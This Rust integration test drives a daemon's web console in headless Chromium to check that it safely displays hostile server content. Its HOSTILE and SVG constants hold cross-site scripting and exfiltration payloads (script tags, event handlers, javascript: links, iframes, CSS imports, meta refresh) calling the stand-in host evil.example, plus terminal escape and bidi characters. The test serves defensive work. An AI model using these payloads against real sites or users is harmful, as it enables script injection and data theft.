//! The console in headless Chromium, driven by `console/suite.mjs` against a daemon with real servers.
//!
//! `RESDEX_SCREENSHOTS=1` has it make the pictures of `docs/console` anew.

use std::fs;
use std::path::Path;
use std::process::{Command, Stdio};

use serde_json::json;

use crate::daemon::Daemon;
use crate::peers::{Kind, Note, Over, Peer};

const TOKEN: &str = "rdx_a-token-of-the-suite";
/// Of `TOKEN`.
const TOKEN_SHA256: &str = "6cf398d128893fc9100baf4a1473cb33cea930558fe64d40036d865117231927";
/// So many are a mass when they vanish at once.
const NOTES: usize = 14;

fn can_run() -> bool {
    let driver = Path::new(env!("CARGO_MANIFEST_DIR")).join("target/interop/console/.stamp");
    let runs = |program: &str| {
        let status = Command::new(program).arg("--version").stdout(Stdio::null()).status();
        status.is_ok_and(|status| status.success())
    };
    let reason = if !driver.exists() {
        "the driver isn't installed; run tests/interop/setup"
    } else if !runs("node") {
        "there is no node"
    } else if !runs("chromium") {
        "there is no chromium"
    } else {
        return true;
    };
    let required = std::env::var("RESDEX_INTEROP").is_ok_and(|value| value == "required");
    assert!(!required, "{reason}");
    println!("skipped: {reason}");
    false
}

#[test]
fn the_console_does_in_a_browser_what_it_promises() {
    if !can_run() {
        return;
    }
    let Some(notes) = Peer::new(Kind::Typescript, Over::Stdio) else { return };
    let Some(designs) = Peer::new(Kind::PythonMcp, Over::Stdio) else { return };
    let all: Vec<Note> = (0..NOTES)
        .map(|number| Note {
            uri: format!("notes://{number}").leak(),
            title: "A note",
            text: "Nothing new on the quay today.\n",
        })
        .collect();
    notes.write(&all);
    let folder = tempfile::tempdir().unwrap();
    fs::write(folder.path().join("hostile.md"), HOSTILE).unwrap();
    fs::write(folder.path().join("hostile.html"), HOSTILE).unwrap();
    fs::write(folder.path().join("data.json"), r#"{"refunds": {"days": [14, 30]}}"#).unwrap();
    fs::write(folder.path().join("logo.svg"), SVG).unwrap();
    let handbook = Path::new(env!("CARGO_MANIFEST_DIR")).join("data/handbook");
    let config = format!(
        "[http]\nlisten = \"127.0.0.1:0\"\n[trace]\nqueries = true\n\
         [servers.handbook]\nfiles = {}\n[servers.files]\nfiles = {}\n\
         [scopes.support-bot]\nservers = [\"handbook\"]\nmax_tokens = 1500\ntoken_sha256 = {}\n\
         [scopes.everything]\n{}{}",
        json!(handbook),
        json!(folder.path()),
        json!(TOKEN_SHA256),
        notes.config("notes", ""),
        designs.config("designs", ""),
    );
    let daemon = Daemon::start(&config);
    for server in ["handbook", "files", "notes", "designs"] {
        daemon.live(server);
    }
    let link = daemon.ask(&["console"]).expect("there is a link");
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let told = json!({
        "link": link["url"],
        "token": TOKEN,
        "modules": root.join("target/interop/console"),
        "config": daemon.folder().join("resdex.toml"),
        "files": folder.path(),
        "notes": notes.folder(),
        "count": NOTES,
        "screenshots": std::env::var("RESDEX_SCREENSHOTS").ok().map(|_| root.join("docs/console")),
    });
    let output = Command::new("node")
        .arg(root.join("tests/interop/console/suite.mjs"))
        .env("RESDEX_SUITE", told.to_string())
        .stdin(Stdio::null())
        .output()
        .expect("node runs");
    let said = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
    println!("{}", said(&output.stdout));
    assert!(output.status.success(), "{}\n{}", said(&output.stdout), said(&output.stderr));
}

/// What a server may send to harm who looks at it.
const HOSTILE: &str = "# <script>document.title='owned'</script> mayhem\n\n\
    Quicksand mayhem \u{1b}[2J \u{202e}evil\u{202c} zero\u{200b}width.\n\n\
    <script>fetch('http://evil.example/a')</script>\n\
    <img src=http://evil.example/b onerror=\"document.title='owned'\">\n\
    <svg onload=\"document.title='owned'\"><image href=http://evil.example/c /></svg>\n\
    <iframe src=http://evil.example/d srcdoc=\"<script>top.document.title='owned'</script>\"></iframe>\n\
    <style>@import url(http://evil.example/e); body{background:url(http://evil.example/f)}</style>\n\
    <link rel=stylesheet href=http://evil.example/g><base href=http://evil.example/>\n\
    <meta http-equiv=refresh content=\"0; url=http://evil.example/h\">\n\
    <a href=\"javascript:document.title='owned'\">click</a> [more](javascript:alert(1))\n\
    ![p](http://evil.example/i) <form action=http://evil.example/j><button>go</button></form>\n\
    </textarea></iframe></pre><script>document.title='owned'</script>\n";

const SVG: &str = "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"top.document.title='owned'\" width=\"64\" height=\"64\">\
    <script>top.document.title='owned'</script><image href=\"http://evil.example/k\" width=\"9\" height=\"9\"/>\
    <rect width=\"64\" height=\"64\" fill=\"teal\"/></svg>\n";
